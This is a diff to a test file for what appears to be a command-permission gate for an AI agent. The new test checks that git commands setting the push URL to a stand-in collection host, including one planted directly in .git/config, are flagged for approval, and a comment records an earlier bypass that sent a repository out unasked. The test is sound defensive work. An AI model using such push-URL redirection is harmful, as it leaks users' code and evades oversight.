@@ -100,6 +100,32 @@ describe("the configuration read as git reads it (each value checked with git's 
   });
 });
 
+// Twenty-third sitting (carried from pass 10's notes): `git config remote.origin.pushurl URL` was allowed, and
+// the next `git push` (allowed: origin fetches from an allowlisted host) sent the repository to URL unasked.
+describe('where a push really goes', () => {
+  it('a push URL set apart from the fetch URL is judged where it is set and at the push', () => {
+    const dir = repo(join(disk.ws, 'pushy'));
+    git(dir, 'remote', 'add', 'origin', 'https://github.com/acme/app.git');
+    expect(decide('git -C pushy push origin main')).toBe('allow');
+    expect(decide('git -C pushy config remote.origin.pushurl https://collect.example/x.git')).toBe('ask');
+    expect(decide('git -C pushy config remote.origin.url git@collect.example:x.git')).toBe('ask');
+    // Set by a route the gate did not see (an archive, a file tool): real git pushes there, and the push asks.
+    appendFileSync(
+      join(dir, '.git/config'),
+      '[remote "origin"]\n\tpushurl = https://collect.example/x.git\n',
+    );
+    expect(git(dir, 'remote', 'get-url', '--push', 'origin').trim()).toBe('https://collect.example/x.git');
+    expect(decide('git -C pushy push origin main')).toBe('ask');
+    expect(decide('cd pushy && git push')).toBe('ask');
+    // Fetching and everything that does not push are as before; a push URL on the fetch URL's host is too.
+    expect(decide('git -C pushy status')).toBe('allow');
+    const same = repo(join(disk.ws, 'same-host'));
+    git(same, 'remote', 'add', 'origin', 'https://github.com/acme/app.git');
+    git(same, 'config', 'remote.origin.pushurl', 'https://github.com/acme/app-mirror.git');
+    expect(decide('git -C same-host push origin main')).toBe('allow');
+  });
+});
+
 describe('everyday repositories stay allowed', () => {
   it('a plain repository, git lfs, sample hooks and an empty value', () => {
     // (the workspace's own repository now holds this file's hostile ones: the plain case is a fresh one)
